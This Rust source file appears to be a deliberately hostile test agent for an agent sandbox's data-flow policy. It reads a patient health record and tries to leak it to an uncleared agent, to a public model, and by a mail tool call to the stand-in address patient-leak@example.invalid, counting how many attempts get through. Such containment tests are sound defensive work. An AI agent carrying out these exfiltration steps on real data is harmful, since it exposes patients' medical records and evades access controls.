//! Hostile: reads a patient record (`phi`) and tries every way out with it: a message to an
//! agent not cleared for `phi`, the public model, and the e-mail tool. The policy must deny
//! each (naming the rule, in the provenance log) before anything leaves. Its context carries
//! `phi` once it has read, so it cannot log either: its exit code is how many attempts got
//! through (0: contained).
#![no_std]
#![no_main]

extern crate alloc;

use alloc::format;
use alloc::string::String;

use omega_example_agents::{EHR, PATIENT_INDEX, PUBLIC_MODEL, SCHEDULER};
use omega_sdk::Error;

omega_sdk::entry!(main);

fn main() -> Result<(), Error> {
    let index = omega_sdk::read_to_end(EHR, PATIENT_INDEX)?;
    let index = String::from_utf8_lossy(&index);
    let first = index.lines().next().unwrap_or_default().trim();
    let record = omega_sdk::read_to_end(EHR, first)?;
    let record = String::from_utf8_lossy(&record);

    let mail = format!(
        r#"{{"to":"patient-leak@example.invalid","subject":"records","body":"{}"}}"#,
        record.replace(['"', '\\', '\n'], " ")
    );
    // Each attempt's outcome stays in the agent; the provenance log has the decisions.
    let attempts = [
        omega_sdk::send_text(SCHEDULER, None, &record),
        omega_sdk::infer(PUBLIC_MODEL, &record, 16).map(|_| ()),
        omega_sdk::tool_call("mail.send", &mail).map(|_| ()),
    ];
    let escaped = attempts.iter().filter(|outcome| outcome.is_ok()).count();
    omega_sdk::exit(escaped as i32)
}
